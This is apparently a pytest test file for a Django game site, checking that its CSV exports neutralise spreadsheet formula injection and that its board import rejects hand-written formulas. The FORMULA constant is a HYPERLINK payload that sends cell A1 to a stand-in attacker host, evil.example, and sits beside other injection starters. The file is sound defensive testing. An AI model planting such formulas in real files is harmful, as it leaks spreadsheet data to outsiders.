"""CSV formula injection (issue 24): every CSV the site writes (the board export, the
history for a player and for the GM, `manage.py export_history`) quotes a cell a
spreadsheet would run, through campaigns/csv_cells.py; the board import takes the site's
own quote off again, and refuses a formula written by hand, naming its line and
department."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from campaigns.csv_cells import FORMULA_START
from campaigns.models import Campaign, Department, Membership
from campaigns.selectors.board_files import BoardFileError, board_csv, board_file, board_from_csv
from campaigns.services.setup import board_import_by_gm
from tests.support.board_files import counts, fresh_campaign, upload
from tests.support.handmade import ClientFor
from tests.support.history import ThreeTurns

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells_of(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def formulas_in(text: str) -> list[str]:
    return [value for value in cells_of(text) if value.startswith(FORMULA_START)]


def poison(campaign: Campaign) -> None:
    """Free text a player or the GM typed, everywhere a CSV of the site shows free text."""
    Department.objects.filter(board__campaign=campaign, slug="mint").update(
        name=FORMULA, description="+1+1", flaws="@SUM(1)", functions={"-cmd|x": 2}
    )
    Membership.objects.filter(campaign=campaign).update(character_name=FORMULA)


def test_every_csv_of_the_site_quotes_a_formula(
    three_turns: ThreeTurns, client_for: ClientFor
) -> None:
    campaign = three_turns.campaign
    poison(campaign)
    board_export = reverse("board_export", args=[campaign.slug, "city", "csv"])
    history = reverse("history_export", args=[campaign.slug])
    command = io.StringIO()
    call_command("export_history", campaign.slug, "-", stdout=command)
    files = {
        "board export": client_for("gm").get(board_export).content.decode(),
        "GM's history": client_for("gm").get(history).content.decode(),
        "player's history": client_for("alice").get(history).content.decode(),
        "export_history": command.getvalue(),
    }
    for where, text in files.items():
        assert f"'{FORMULA}" in cells_of(text), where  # the name is there, quoted
        assert formulas_in(text) == [], where
    board = cells_of(files["board export"])
    assert {"'+1+1", "'@SUM(1)", "'-cmd|x: 2"} <= set(board)


def test_a_board_with_formulas_round_trips_through_its_csv(demo: Campaign) -> None:
    poison(demo)
    original = board_file(demo.boards.get(slug="city"))
    text = board_csv(original)
    assert formulas_in(text) == []
    data = board_from_csv(text, slug="city", name=original["name"])
    board = board_import_by_gm(campaign=fresh_campaign(), actor=None, data=data)
    assert board_file(board) == original
    assert board.departments.get(slug="mint").name == FORMULA


HEADER = "slug,name,description,functions,alignments\n"
QUOTED = '"' + FORMULA.replace('"', '""') + '"'  # as a spreadsheet writes it


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"mint,{QUOTED},,,", f"line 3 (mint), name: {FORMULA!r} begins with ="),
        ("mint,The Mint,+1,,", "line 3 (mint), description: '+1' begins with +"),
        ("mint,The Mint,,-x: 2,", "line 3 (mint), functions: '-x: 2' begins with -"),
        ("mint,The Mint,,,@Weird", "line 3 (mint), alignments: '@Weird' begins with @"),
    ],
)
def test_a_formula_written_by_hand_is_refused_with_its_line_and_department(
    demo: Campaign, client_for: ClientFor, line: str, expected: str
) -> None:
    text = HEADER + "press,The Press,,,\n" + line + "\n"
    with pytest.raises(BoardFileError) as refused:
        board_from_csv(text, slug="b", name="B")
    assert any(m.startswith(expected) for m in refused.value.messages), refused.value.messages
    copy = fresh_campaign()
    before = counts()
    response = upload(client_for("gm"), copy, "b.csv", text, name="B", slug="b")
    assert response.status_code == 200
    assert "spreadsheet would run" in response.content.decode()
    assert counts() == before


def test_the_sites_own_quote_is_taken_off_on_import() -> None:
    data = board_from_csv(HEADER + "mint,'=1+1,'-x,,\n", slug="b", name="B")
    (mint,) = data["departments"]
    assert (mint["name"], mint["description"]) == ("=1+1", "-x")
